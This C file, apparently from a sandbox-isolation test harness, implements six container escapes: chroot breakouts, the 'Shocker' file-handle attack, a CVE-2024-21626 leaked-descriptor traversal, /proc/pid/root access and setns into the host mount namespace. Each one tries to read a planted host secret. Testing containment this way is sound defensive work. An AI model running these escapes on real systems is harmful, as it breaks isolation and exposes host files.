/* Ways to the host's files. An escape is the host's secret in hand. */
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct finding climb(int outside) {
    if (outside >= 0 && fchdir(outside) != 0)
        return held("fchdir");
    for (int step = 0; step < 64; step++)
        if (chdir("..") != 0)
            return held("chdir ..");
    if (chroot(".") != 0)
        return held("chroot .");
    return secret_below(AT_FDCWD, of_host("HOST_SECRET"));
}

static const char *a_directory(void) {
    /* A root that is not writable has some directory, too. */
    return mkdir("/tmp/chroot", 0700) == 0 || errno == EEXIST ? "/tmp/chroot" : "/tmp";
}

/* A root made by chroot(2) alone is left by making another one below the working directory: chroot(2), NOTES. */
static struct finding chroot_escape(void) {
    if (chdir("/") != 0 || chroot(a_directory()) != 0)
        return held("chroot");
    return climb(-1);
}

/* The same with an open directory, which keeps its place whatever becomes of the root. */
static struct finding chroot_by_descriptor(void) {
    int outside = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (chroot(a_directory()) != 0 || chdir("/") != 0)
        return held("chroot");
    return climb(outside);
}

/* "Shocker": a handle names a file of a file system whatever its path is, and some mount of the host's file system is in every container:
 * /etc/hosts. open_by_handle_at(2) wants CAP_DAC_READ_SEARCH for that. */
static struct finding file_handle(void) {
    union {
        struct file_handle handle;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } wanted;
    const char *text = of_host("HOST_HANDLE");
    char *bytes;
    if (!text)
        return absent("a file system without handles");
    wanted.handle.handle_type = strtol(text, &bytes, 10);
    wanted.handle.handle_bytes = strlen(++bytes) / 2;
    for (unsigned index = 0; index < wanted.handle.handle_bytes; index++)
        sscanf(bytes + 2 * index, "%2hhx", &wanted.handle.f_handle[index]);
    int mount = open("/etc/hosts", O_RDONLY | O_CLOEXEC);
    if (mount < 0)
        return held("/etc/hosts");
    return secret_from(open_by_handle_at(mount, &wanted.handle, O_RDONLY | O_CLOEXEC));
}

/* CVE-2024-21626: a directory of the host that was left open. */
static struct finding open_descriptor(void) {
    const char *secret = of_host("HOST_SECRET");
    char path[1024];
    for (int descriptor = 0; descriptor < 1024; descriptor++) {
        snprintf(path, sizeof path, "../../../../../../../../../../%s", secret);
        struct finding found = secret_from(openat(descriptor, path, O_RDONLY | O_CLOEXEC));
        if (found.verdict == ESCAPED)
            return found;
    }
    errno = EBADF;
    return held("");
}

/* The root of a process of the host: proc(5), /proc/pid/root. */
static struct finding root_of_a_process(void) {
    char path[1024];
    const char *names[] = { of_host("HOST_PID"), "1" };
    struct finding found = { HELD, 0, "" };
    for (int index = 0; index < 2 && found.verdict == HELD; index++) {
        snprintf(path, sizeof path, "/proc/%s/root%s", names[index], of_host("HOST_SECRET"));
        found = secret_from(open(path, O_RDONLY | O_CLOEXEC));
    }
    return found;
}

/* The host's mount namespace, through its process: setns(2). */
static struct finding join_mounts(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/ns/mnt", of_host("HOST_PID"));
    int namespace = open(path, O_RDONLY | O_CLOEXEC);
    if (namespace < 0 || setns(namespace, CLONE_NEWNS) != 0)
        return held("");
    return secret_below(AT_FDCWD, of_host("HOST_SECRET"));
}

const struct attack file_attacks[] = {
    { "chroot-escape", chroot_escape },
    { "chroot-by-descriptor", chroot_by_descriptor },
    { "file-handle", file_handle },
    { "open-descriptor", open_descriptor },
    { "root-of-a-process", root_of_a_process },
    { "join-mounts", join_mounts },
    { 0 },
};
